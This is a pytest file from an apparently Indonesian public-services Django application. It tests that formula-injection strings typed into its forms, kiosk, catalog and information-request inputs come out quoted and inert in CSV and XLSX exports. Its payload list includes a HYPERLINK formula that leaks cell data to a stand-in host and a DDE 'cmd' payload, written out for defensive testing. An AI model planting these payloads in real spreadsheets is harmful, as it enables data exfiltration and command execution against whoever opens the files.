"""Formula escaping: text typed into any input that reaches a CSV or XLSX file is inert.

Each payload goes in through the real input (the online form, the counter, the kiosk,
paper entry, the catalog, a PPID request) and is read back from the CSV and the XLSX that
staff download.
"""

import csv
import io

from django.test import Client
from django.urls import reverse
from django.utils import timezone

import pytest
from openpyxl import load_workbook

from forms_builder.models import Application
from forms_builder.services.applications import Applicant, application_submit
from forms_builder.workflow import Channel
from paten.tabular import FORMULA_PREFIXES, cell_safe, cell_unescaped
from reporting.models import SurveyKiosk, SurveyResponse
from reporting.survey.constants import ANSWER_FIELDS, Occupation, SurveyChannel
from reporting.survey.forms import SERVICE_OTHER
from reporting.survey.services import survey_response_submit
from tests.forms_builder.factories import form_version_for, spec
from tests.reporting.factories import all_answers
from tests.service_catalog.factories import make_service

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
IDS = ["equals", "plus", "minus", "at", "tab", "cr"]


def login(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def cells_of_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def cells_of_xlsx(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_inert(csv_content: bytes, xlsx_content: bytes, payload: str) -> None:
    """The payload is in both files, quoted, and no XLSX cell is a formula."""
    assert "'" + payload in cells_of_csv(csv_content)
    cells = cells_of_xlsx(xlsx_content)
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + payload in [cell.value for cell in cells]
    for value in cells_of_csv(csv_content) + [cell.value for cell in cells]:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_PREFIXES)


def content_of(response) -> bytes:
    assert response.status_code == 200, response.content[:500]
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


class TestCellSafe:
    @pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
    def test_quoted_and_read_back(self, payload):
        assert cell_safe(payload) == "'" + payload
        assert cell_unescaped(cell_safe(payload)) == payload

    def test_other_values_are_left_alone(self):
        assert cell_safe("Sekolah") == "Sekolah"
        assert cell_safe(-2) == -2
        assert cell_unescaped("'biasa") == "'biasa"


@pytest.mark.django_db
@pytest.mark.usefixtures("fresh_cache")
class TestInputsReachFilesInert:
    @pytest.fixture
    def free_text_service(self, service):
        """The conftest service with a free-text field that is not personal data."""
        form_version_for(
            service,
            [
                spec("keperluan", "multiline", label="Keperluan"),
                spec("catatan", "singleline", label="Catatan", required=False),
            ],
        )
        return service

    def applications_export(self, user, file_format: str) -> bytes:
        today = timezone.localdate()
        response = login(user).post(
            reverse("reporting_exports:index"),
            {
                "dataset": "permohonan",
                "file_format": file_format,
                "start": today.replace(day=1).isoformat(),
                "end": today.isoformat(),
            },
        )
        return content_of(response)

    def responses_export(self, user, file_format: str) -> bytes:
        query = {"format": "csv"} if file_format == "csv" else {}
        return content_of(login(user).get(reverse("survey_responses:export"), query))

    @pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
    def test_online_form(self, payload, free_text_service, utara, admin_pemda):
        url = reverse("forms_builder:apply", args=[free_text_service.code])
        response = Client().post(
            f"{url}?kecamatan={utara.code}",
            {
                "pemohon-name": "Siti Rahmawati",
                "pemohon-phone": "0812 3456 7890",
                "pemohon-email": "",
                "keperluan": payload,
                "catatan": payload,
            },
        )
        assert response.status_code == 302, response.content.decode()[:2000]
        stored = Application.objects.get().data["keperluan"]
        assert_inert(
            self.applications_export(admin_pemda, "csv"),
            self.applications_export(admin_pemda, "xlsx"),
            stored,
        )

    @pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
    def test_counter_intake(self, payload, free_text_service, utara, loket, admin_pemda):
        application_submit(
            service=free_text_service,
            kecamatan=utara,
            form_data={"keperluan": "Sekolah", "catatan": payload},
            files={},
            applicant=Applicant(name="Budi Santoso", phone="081234567890"),
            channel=Channel.COUNTER,
            actor=loket,
        )
        stored = Application.objects.get().data["catatan"]
        assert_inert(
            self.applications_export(admin_pemda, "csv"),
            self.applications_export(admin_pemda, "xlsx"),
            stored,
        )

    @pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
    def test_kiosk_other_occupation(self, payload, service, utara, admin_pemda):
        kiosk = SurveyKiosk.objects.create(kecamatan=utara, name="Tablet")
        data = {ANSWER_FIELDS[key]: str(value) for key, value in all_answers(4).items()}
        data |= {"service": SERVICE_OTHER, "occupation": Occupation.LAINNYA}
        data |= {"occupation_other": payload}
        response = Client().post(reverse("reporting:kiosk", args=[kiosk.token]), data)
        assert response.status_code == 302, response.content.decode()[:2000]
        stored = SurveyResponse.objects.get().occupation_other
        assert stored
        assert_inert(
            self.responses_export(admin_pemda, "csv"),
            self.responses_export(admin_pemda, "xlsx"),
            stored,
        )

    @pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
    def test_paper_entry(self, payload, utara, loket, admin_pemda):
        survey_response_submit(
            answers=all_answers(3),
            channel=SurveyChannel.PAPER,
            kecamatan=utara,
            profile={"occupation": Occupation.LAINNYA, "occupation_other": payload},
            entered_by=loket,
            paper_reference=payload,
        )
        stored = SurveyResponse.objects.get().occupation_other
        assert_inert(
            self.responses_export(admin_pemda, "csv"),
            self.responses_export(admin_pemda, "xlsx"),
            stored,
        )

    @pytest.mark.parametrize("payload", PAYLOADS[:4], ids=IDS[:4])
    def test_catalog_fields(self, payload, bontang, superuser):
        make_service(title=f"{payload}", code="x1")
        response = login(superuser).get(reverse("service_catalog_export", args=["layanan"]))
        cells = cells_of_xlsx(content_of(response))
        assert all(cell.data_type != "f" for cell in cells)
        assert "'" + payload in [cell.value for cell in cells]

    @pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
    def test_ppid_request(self, payload, bontang, tmp_path):
        """A PPID request's text reaches the register (CSV and XLSX report files)."""
        from paten.ppid.constants import RequestChannel
        from paten.ppid.reports import request_register_sheet
        from paten.ppid.services import RequestInput, request_submit
        from reporting.reports.registry import ReportData
        from reporting.reports.writers import WRITERS
        from tests.forms_builder.factories import pdf_upload

        request_submit(
            data=RequestInput(
                requester_name="Siti Rahmawati",
                requester_nik="6474011203900001",
                requester_address="Jl. Awang Long No. 7",
                information_requested=payload,
                purpose=payload,
                requester_occupation=payload,
                requester_email="siti@example.org",
            ),
            channel=RequestChannel.ONLINE,
            identity_file=pdf_upload("ktp.pdf"),
        )
        today = timezone.localdate()
        data = ReportData(
            title="Register",
            scope_label="",
            start=today,
            end=today,
            sheets=[request_register_sheet(start=today, end=today, kecamatan=None, unmasked=False)],
        )
        files = {}
        for file_format in ("csv", "xlsx"):
            path = tmp_path / f"register.{file_format}"
            WRITERS[file_format](data, str(path), lambda *args: None, (0, 100))
            files[file_format] = path.read_bytes()
        stored = payload.strip()
        assert_inert(files["csv"], files["xlsx"], stored)
